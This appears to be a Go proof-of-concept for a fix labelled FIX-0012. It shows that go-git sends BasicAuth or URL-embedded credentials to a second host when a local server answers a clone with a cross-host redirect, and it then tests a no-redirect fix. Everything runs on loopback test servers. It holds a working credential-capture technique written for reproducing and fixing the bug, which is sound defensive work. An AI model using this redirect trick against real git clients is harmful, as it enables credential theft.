// Proof for FIX-0012: an origin git server on 127.0.0.1 redirects the clone's
// first GET .../info/refs to another host ("other.example", which the
// program's dialer sends to a second loopback server). The second server
// records the Authorization header of every request it receives.
package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"

	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing/transport/client"
	githttp "github.com/go-git/go-git/v5/plumbing/transport/http"
	"github.com/go-git/go-git/v5/storage/memory"
)

func pkt(s string) string { return fmt.Sprintf("%04x%s", len(s)+4, s) }

func main() {
	var other []string
	srvB := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := r.Header.Get("Authorization")
		if auth == "" {
			auth = "none"
		}
		other = append(other, fmt.Sprintf("%s %s (Authorization: %s)", r.Method, r.URL.Path, auth))
		if r.Method == "GET" && strings.HasSuffix(r.URL.Path, "/info/refs") {
			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
			sha := strings.Repeat("1", 40)
			fmt.Fprint(w, pkt("# service=git-upload-pack\n"), "0000",
				pkt(sha+" HEAD\x00multi_ack_detailed side-band-64k ofs-delta symref=HEAD:refs/heads/master\n"),
				pkt(sha+" refs/heads/master\n"), "0000")
			return
		}
		http.Error(w, "no pack here", http.StatusInternalServerError)
	}))
	defer srvB.Close()
	_, portB, _ := net.SplitHostPort(srvB.Listener.Addr().String())
	otherHost := "other.example:" + portB

	srvA := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+otherHost+r.URL.RequestURI(), http.StatusFound)
	}))
	defer srvA.Close()
	origin := srvA.Listener.Addr().String()

	// Only the dialing differs from http.DefaultClient: other.example is
	// the second loopback server, so nothing leaves the machine.
	tr := &http.Transport{DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
		if addr == otherHost {
			addr = srvB.Listener.Addr().String()
		}
		return (&net.Dialer{}).DialContext(ctx, network, addr)
	}}
	clean := func(s string) string {
		s = strings.ReplaceAll(s, origin, "ORIGIN")
		return strings.ReplaceAll(s, portB, "PORT")
	}
	clone := func(url string, auth *githttp.BasicAuth) string {
		other = nil
		o := &git.CloneOptions{URL: url}
		if auth != nil {
			o.Auth = auth
		}
		_, err := git.Clone(memory.NewStorage(), nil, o)
		res := "clone ok"
		if err != nil {
			res = "clone error: " + clean(err.Error())
		}
		if len(other) == 0 {
			return res + "; other host saw no request"
		}
		return res + "; other host saw: " + strings.Join(other, ", ")
	}

	client.InstallProtocol("http", githttp.NewClient(&http.Client{Transport: tr}))
	// The trigger: BasicAuth credentials, a cross-host redirect.
	fmt.Println("trigger BasicAuth:", clone("http://"+origin+"/repo.git", &githttp.BasicAuth{Username: "u", Password: "s3cret"}))
	// The same with the credentials in the URL.
	fmt.Println("trigger user:password in the URL:", clone("http://u:s3cret@"+origin+"/repo.git", nil))

	// Fix option: an http.Client that does not follow redirects.
	client.InstallProtocol("http", githttp.NewClient(&http.Client{
		Transport:     tr,
		CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse },
	}))
	fmt.Println("fix CheckRedirect ErrUseLastResponse:", clone("http://"+origin+"/repo.git", &githttp.BasicAuth{Username: "u", Password: "s3cret"}))
}
